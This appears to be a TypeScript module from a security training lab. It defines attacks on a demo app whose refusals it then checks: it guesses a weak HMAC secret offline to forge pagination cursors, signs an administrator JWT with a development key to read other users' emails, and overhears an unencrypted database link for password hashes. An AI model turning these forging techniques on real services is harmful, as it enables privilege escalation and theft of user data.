import { SignJWT } from 'jose';
import { createHmac, createPrivateKey, hkdfSync, randomUUID, type JsonWebKey } from 'node:crypto';
import type { Attack, Loot } from '../engine/lesson.js';
import type { Person, Target } from '../engine/target.js';
import {
  deployedWith,
  DEVELOPERS_KEYS,
  DEVELOPERS_SECRET,
  PUBLIC_URL,
  REPEATED,
  SHORT,
} from './deployment.js';

interface List {
  items?: unknown[];
  nextCursor?: string | null;
}

const WORDS = ['', SHORT, REPEATED, DEVELOPERS_SECRET];

/** The source is public: everybody knows what the server does with its secret. */
function signCursor(secret: string, list: unknown, body: string): string {
  const bytes = Buffer.from(secret.replace('dev-', ''), 'base64url');
  const key = Buffer.from(hkdfSync('sha256', bytes, '', 'bulwark/cursor', 32));
  const mac = createHmac('sha256', key).update(JSON.stringify([body, list]));
  return mac.digest().subarray(0, 16).toString('base64url');
}

/** One cursor of your own is enough to try every secret that people choose, at home. */
async function guessSecret({ id, client }: Person): Promise<string | undefined> {
  const list = ['own', id, '-createdAt'];
  for (const title of ['a', 'b']) await client.post('/v1/resources', { title, content: '' });
  const { body } = await client.get<List>('/v1/resources?limit=1');
  const [place = '', mac] = (body.nextCursor ?? '').split('.');
  return WORDS.find((secret) => signCursor(secret, list, place) === mac);
}

async function forgeCursor(target: Target): Promise<Loot> {
  const eve = await target.person('eve');
  const secret = await guessSecret(eve);
  if (secret === undefined) return null;
  const list = ['own', eve.id, 'title'];
  const body = Buffer.from(JSON.stringify({ value: '', id: eve.id })).toString('base64url');
  const cursor = `${body}.${signCursor(secret, list, body)}`;
  const page = await eve.client.get<List>(`/v1/resources?sort=title&cursor=${cursor}`);
  return page.body.items?.length === 2
    ? 'APP_SECRET, guessed at home, and a cursor that the server never wrote'
    : null;
}

const guessed = (id: string, title: string, secret: string): Attack => ({
  id,
  title,
  scenario: {
    ...deployedWith(`lab.inProduction(env, { APP_SECRET: ${secret} })`),
    refusal: /APP_SECRET/,
  },
  run: forgeCursor,
});

/** A token of an administrator who does not exist, signed with a key that was on a laptop. */
async function forgeToken(target: Target): Promise<Loot> {
  const [ada, eve] = [await target.person('ada'), await target.person('eve')];
  const { keys } = JSON.parse(DEVELOPERS_KEYS) as { keys: [JsonWebKey & { kid: string }] };
  const [jwk] = keys;
  const proof = { auth_time: Math.floor(Date.now() / 1_000), amr: ['pwd'] };
  const token = await new SignJWT({ sid: randomUUID(), role: 'admin', ...proof })
    .setProtectedHeader({ alg: 'ES256', typ: 'at+jwt', kid: jwk.kid })
    .setIssuer(PUBLIC_URL)
    .setAudience(`${PUBLIC_URL}/v1`)
    .setSubject(eve.id)
    .setJti(randomUUID())
    .setIssuedAt()
    .setExpirationTime('5m')
    .sign(createPrivateKey({ key: jwk, format: 'jwk' }));
  const forger = eve.client.withToken(token);
  const { body } = await forger.get<{ items?: { email: string }[] }>('/v1/users?limit=100');
  return body.items?.some(({ email }) => email === ada.email)
    ? 'the address of Ada, read as an administrator who does not exist'
    : null;
}

const overheard = (id: string, title: string, query: string): Attack => ({
  id,
  title,
  needsLab: true,
  scenario: {
    ...deployedWith(`await lab.throughTap(lab.inProduction(env, {}), '${query}')`),
    refusal: /without TLS/,
  },
  run: async (target) => {
    await target.person('ada', 'password');
    return target.lab.log().includes('overheard: $argon2id$') ? 'Ada’s password hash' : null;
  },
});

export const attacks: Attack[] = [
  guessed('secret-short', 'Guess a secret of 24 bytes that somebody typed', `'${SHORT}'`),
  guessed(
    'secret-repeated',
    'Guess a secret that is long because it repeats itself',
    `'${REPEATED}'`,
  ),
  guessed('secret-missing', 'Use the secret of a server that was given none', "''"),
  guessed(
    'secret-of-development',
    'Use the secret that a developer’s machine made',
    'env.APP_SECRET',
  ),
  {
    id: 'key-of-development',
    title: 'Sign yourself an administrator’s token with a developer’s key',
    scenario: {
      ...deployedWith('lab.inProduction(env, { SIGNING_KEYS: env.SIGNING_KEYS })'),
      refusal: /SIGNING_KEYS was made for development/,
    },
    run: forgeToken,
  },
  overheard('wire-plain', 'Listen on the way to the database', ''),
  overheard('wire-disabled', 'Listen where sslmode is set, and says "disable"', '?sslmode=disable'),
];
